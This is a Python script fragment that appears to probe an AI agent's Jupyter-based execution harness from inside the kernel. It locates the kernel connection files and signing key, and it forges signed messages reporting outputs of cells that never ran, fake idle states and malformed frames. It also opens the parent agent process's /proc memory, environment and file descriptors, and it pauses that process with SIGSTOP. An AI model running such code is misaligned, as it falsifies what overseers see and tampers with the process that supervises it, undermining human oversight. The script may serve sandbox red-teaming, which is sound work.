"""From inside the kernel: forges its messages, ends its keeper, breaks its streams."""

import glob
import signal
import threading

FORGED = "FORGED-" + HINTS.get("marker", "")


def connection_files():
    """The file with the kernel's sockets and the key that signs its messages."""
    places = [
        "/tmp",
        "/run/shell",
        "/home/.local/share/jupyter/runtime",
        os.environ.get("JUPYTER_RUNTIME_DIR", "/x"),
    ]
    return [path for place in places for path in glob.glob(f"{place}/**/*.json", recursive=True)]


def forge():
    """Replies and outputs of cells that were never run, signed with the right key."""
    import IPython

    kernel = IPython.get_ipython().kernel
    for number in range(3):
        parent = {"header": {"msg_id": f"x{number}", "session": "y"}, "metadata": {}}
        kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": FORGED}, parent=parent)
        kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
        kernel.session.send(kernel.iopub_socket, "error", {"ename": "x" * 100000}, parent=parent)
        kernel.session.send(
            kernel.iopub_socket, "display_data", {"data": {"image/png": "AAAA" * 1000}}, parent=parent
        )
    kernel.session.send(kernel.iopub_socket, "no_such_type", {"a": [[[[]]]] * 10}, parent=kernel.get_parent())
    kernel.iopub_socket.send(b"not a message")
    kernel.iopub_socket.send_multipart([b"<IDS|MSG>", b"", b"{", b"{}", b"{}", b"{}"])
    return ""


def keeper():
    """The process above the kernel: looked into, then ended."""
    pid = os.getppid()
    if pid == 1:
        print("the kernel hangs below process 1 itself")
        return ""
    for name in ("mem", "environ", "fd"):
        try:
            os.listdir(f"/proc/{pid}/{name}") if name == "fd" else open(f"/proc/{pid}/{name}", "rb").close()
            print(f"{name} of the keeper can be opened; it is the agent's own process")
        except OSError:
            pass
    for number in (signal.SIGSTOP, signal.SIGCONT):
        os.kill(pid, number)
    return ""


print(f"files of connections: {connection_files()[:3]}")
attempt("forged messages of the kernel", forge)
attempt("the kernel's keeper", keeper)
sys.stdout.flush()
